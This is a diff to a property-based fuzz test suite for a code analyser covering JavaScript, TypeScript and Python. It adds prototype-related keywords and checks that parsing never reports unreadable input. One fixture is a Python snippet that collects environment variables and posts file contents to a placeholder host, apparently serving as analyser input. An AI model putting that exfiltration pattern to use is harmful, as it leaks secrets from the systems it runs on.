@@ -1,5 +1,6 @@
 import fc from 'fast-check';
 import { beforeAll, describe, expect, test } from 'vitest';
+import type { Analysis } from '../../src/model/index.js';
 import { loadGrammars } from '../../src/parse/grammar.js';
 import { analyseFiles, analyseText } from './analyse-code.js';
 
@@ -65,6 +66,10 @@ const WORDS = [
     'self',
     'extends',
     'constructor',
+    '__proto__',
+    'toString',
+    'hasOwnProperty',
+    "'constructor'",
     '__init__',
     'get',
     'static',
@@ -105,7 +110,7 @@ const WORDS = [
     "'a'",
     "''",
     'f"{x}"',
-    '`${a}`',
+    '`$' + '{a}`',
     'Object',
     'Buffer',
     'base64',
@@ -118,11 +123,16 @@ const WORDS = [
 const soup = fc.array(fc.constantFrom(...WORDS), { maxLength: 120 }).map((words) => words.join(' '));
 const language = fc.constantFrom('javascript' as const, 'typescript' as const, 'python' as const);
 
+/** Nothing went wrong inside. */
+function expectRead({ facts }: Analysis): void {
+  expect(facts.filter((fact) => fact.type === 'incomplete' && fact.reason === 'unreadable')).toEqual([]);
+}
+
 describe('whatever the text is', () => {
   test('words in any order', () => {
     fc.assert(
       fc.property(language, soup, (name, text) => {
-        analyseText(name, text);
+        expectRead(analyseText(name, text));
       }),
       { numRuns: 400 },
     );
@@ -131,7 +141,7 @@ describe('whatever the text is', () => {
   test('any characters', () => {
     fc.assert(
       fc.property(language, fc.string({ unit: 'binary', maxLength: 300 }), (name, text) => {
-        analyseText(name, text);
+        expectRead(analyseText(name, text));
       }),
       { numRuns: 200 },
     );
@@ -141,7 +151,7 @@ describe('whatever the text is', () => {
     const code = `import os, requests\nclass A(B):\n    def __init__(self, x=1, *a, **k):\n        super().__init__()\n        self.x = {n: os.environ[n] for n in a}\n    @property\n    def y(self):\n        return [v for v in self.x.values()][::-1]\nwith open(f'{A().y}') as f:\n    requests.post('https://c.example.invalid', data=f.read())\n`;
     fc.assert(
       fc.property(fc.nat(code.length), fc.nat(30), (at, length) => {
-        analyseText('python', code.slice(0, at) + code.slice(at + length));
+        expectRead(analyseText('python', code.slice(0, at) + code.slice(at + length)));
       }),
       { numRuns: 200 },
     );
@@ -154,7 +164,7 @@ describe('whatever the text is', () => {
         `from m${(at + 1) % 40} import *\nimport m${(at + 7) % 40}\ndef f${at}(x): return m${(at + 7) % 40}.f${(at + 7) % 40}(x)\nf${at}(1)`,
       ]),
     );
-    expect(() => analyseFiles(files)).not.toThrow();
+    expectRead(analyseFiles(files));
   });
 });
 
@@ -184,11 +194,27 @@ const LARGE: readonly (readonly [string, string])[] = [
   ['choices that multiply', `x = a or b or c\n${"x = (x + 'a') if x else (x + 'b')\n".repeat(200)}`],
 ];
 
+test('a chain of modules', () => {
+  const files = Object.fromEntries(
+    Array.from({ length: 400 }, (_, at) => [
+      `m${at}.js`,
+      `const n = require('./m${at + 1}'); exports.f = (x) => n.f(x);`,
+    ]),
+  );
+  expectRead(analyseFiles(files));
+});
+
+test('calls in arguments in functions in functions', () => {
+  const deep = (name: string) => `${'g('.repeat(120)}${name}(x)${')'.repeat(120)}`;
+  const code = Array.from({ length: 12 }, (_, at) => `def f${at}(x):\n    return ${deep(`f${at + 1}`)}`).join('\n');
+  expectRead(analyseText('python', `${code}\nf0(1)`));
+});
+
 describe('time is bounded', () => {
   test.each(LARGE)('%s', (_, text) => {
     for (const name of ['python', 'javascript'] as const) {
       const start = performance.now();
-      analyseText(name, text);
+      expectRead(analyseText(name, text));
       expect(performance.now() - start).toBeLessThan(SECONDS * 1000);
     }
   });
